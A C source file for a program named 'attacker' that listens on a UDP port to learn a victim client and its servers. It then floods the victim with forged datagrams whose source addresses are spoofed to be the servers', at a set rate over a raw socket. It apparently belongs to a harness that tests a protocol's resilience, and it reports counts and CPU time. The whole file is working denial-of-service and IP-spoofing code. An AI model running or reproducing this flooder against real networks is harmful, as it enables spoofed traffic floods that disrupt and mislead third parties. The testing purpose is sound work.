/*
 * Floods a client with forged datagrams, at a rate, with the servers' own addresses as their source, until its standard
 * input ends. It overhears whom to attack, and what it needs to know.
 *
 *     attacker PORT RATE
 *
 * PORT is that of the servers, RATE in datagrams a second, 0 as many as it can. It writes "flooding" when it begins, and
 * at the end how many it sent of each kind, for how long, and the processor time that it took.
 */
#define _GNU_SOURCE
#include "attacker.h"
#include <errno.h>
#include <poll.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, MADE = 2048, HEADERS = sizeof(struct iphdr) + sizeof(struct udphdr) };

/* A packet, made once and sent more than once: forging costs more than sending. */
struct packet {
    enum kind kind;
    size_t len;
    char *data;
};

static struct packet packets[MADE];
static uint64_t sent[KINDS];

static int64_t now_us(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (int64_t)now.tv_sec * 1000000 + now.tv_nsec / 1000;
}

/* Of 1,024 datagrams these many are of each kind; the huge ones would fill any link by themselves. */
static enum kind next_kind(void)
{
    static const unsigned shares[KINDS] = {200, 50, 200, 200, 140, 50, 30, 30, 40, 10, 30, 42, 1, 1};
    unsigned draw = chance(1024);
    for (int kind = 0; kind < KINDS; kind++) {
        if (draw < shares[kind]) {
            return (enum kind)kind;
        }
        draw -= shares[kind];
    }
    return WRONG_HMAC;
}

/* Gives whether there is something to make it of. */
static int make(struct packet *packet, const struct heard *heard)
{
    static char payload[LONGEST + 1];
    struct sockaddr_in from;
    const enum kind kind = next_kind();
    const long len = forge(kind, heard, payload, &from);
    if (len < 0) {
        return 0;
    }
    const size_t whole = HEADERS + (size_t)len;
    struct iphdr ip;
    struct udphdr udp;
    memset(&ip, 0, sizeof ip); /* the kernel fills in length, number and checksum */
    memset(&udp, 0, sizeof udp);
    ip.version = 4;
    ip.ihl = 5;
    ip.ttl = OWN_TTL;
    ip.protocol = IPPROTO_UDP;
    ip.tot_len = htons((uint16_t)whole);
    ip.saddr = from.sin_addr.s_addr;
    ip.daddr = heard->victim.sin_addr.s_addr;
    udp.source = from.sin_port;
    udp.dest = heard->victim.sin_port;
    udp.len = htons((uint16_t)(whole - sizeof ip));
    free(packet->data);
    packet->data = malloc(whole);
    if (packet->data == NULL) {
        exit(1);
    }
    packet->kind = kind;
    packet->len = whole;
    memcpy(packet->data, &ip, sizeof ip);
    memcpy(packet->data + sizeof ip, &udp, sizeof udp);
    memcpy(packet->data + HEADERS, payload, (size_t)len);
    return 1;
}

static void send_batch(int fd, size_t first, unsigned count, const struct heard *heard)
{
    struct mmsghdr out[BATCH];
    struct iovec parts[BATCH];
    struct sockaddr_in to = heard->victim;
    memset(out, 0, sizeof out);
    for (unsigned i = 0; i < count; i++) {
        parts[i].iov_base = packets[(first + i) % MADE].data;
        parts[i].iov_len = packets[(first + i) % MADE].len;
        out[i].msg_hdr.msg_name = &to;
        out[i].msg_hdr.msg_namelen = sizeof to;
        out[i].msg_hdr.msg_iov = &parts[i];
        out[i].msg_hdr.msg_iovlen = 1;
    }
    const int gone = sendmmsg(fd, out, count, 0);
    if (gone < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
        perror("attacker: sendmmsg");
        exit(1);
    }
    for (int i = 0; i < gone; i++) {
        sent[packets[(first + (size_t)i) % MADE].kind]++;
    }
}

static int is_over(void)
{
    struct pollfd input = {STDIN_FILENO, POLLIN, 0};
    return poll(&input, 1, 0) > 0;
}

int main(int argc, char **argv)
{
    static struct heard heard;
    struct timeval times[2];
    struct rusage usage;
    const int64_t rate = argc == 3 ? strtol(argv[2], NULL, 10) : 0;
    if (argc != 3) {
        fprintf(stderr, "usage: attacker PORT RATE\n");
        return 2;
    }
    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    listen_open(&heard, (uint16_t)strtol(argv[1], NULL, 10));
    if (fd < 0) {
        perror("attacker: a raw socket");
        return 1;
    }
    printf("listening\n");
    fflush(stdout);
    struct pollfd waits[2] = {{heard.socket, POLLIN, 0}, {STDIN_FILENO, POLLIN, 0}};
    while (heard.requests < REMEMBERED || heard.replies < REMEMBERED) {
        if (poll(waits, 2, -1) > 0 && waits[1].revents != 0) {
            fprintf(stderr, "attacker: there was nobody to attack\n");
            return 1;
        }
        listen_on(&heard);
    }
    for (size_t i = 0; i < MADE; i++) {
        make(&packets[i], &heard);
    }
    printf("flooding\n");
    fflush(stdout);
    const int64_t began = now_us();
    int64_t done = 0;
    for (size_t at = 0, fresh = 0; !is_over();) {
        listen_on(&heard);
        /* Some are always new, of the latest salts and replies. */
        for (int i = 0; i < BATCH / 4; i++) {
            make(&packets[fresh++ % MADE], &heard);
        }
        const int64_t due = rate == 0 ? done + BATCH : (now_us() - began) * rate / 1000000;
        if (done >= due) {
            poll(waits, 1, 1);
        }
        /* One that has fallen behind does not make up for it at once. */
        if (due - done > rate / 20 + BATCH) {
            done = due - rate / 20;
        }
        for (; done < due && done >= 0; done += BATCH, at = (at + BATCH) % MADE) {
            send_batch(fd, at, BATCH, &heard);
        }
    }
    const int64_t took = now_us() - began;
    for (int kind = 0; kind < KINDS; kind++) {
        printf("sent %s %llu\n", kind_names[kind], (unsigned long long)sent[kind]);
    }
    getrusage(RUSAGE_SELF, &usage);
    times[0] = usage.ru_utime;
    times[1] = usage.ru_stime;
    printf("took %lld\n", (long long)took);
    printf("cpu %lld\n", (long long)(times[0].tv_sec + times[1].tv_sec) * 1000000 + times[0].tv_usec + times[1].tv_usec);
    printf("heard %llu %llu\n", (unsigned long long)heard.requests, (unsigned long long)heard.replies);
    return 0;
}
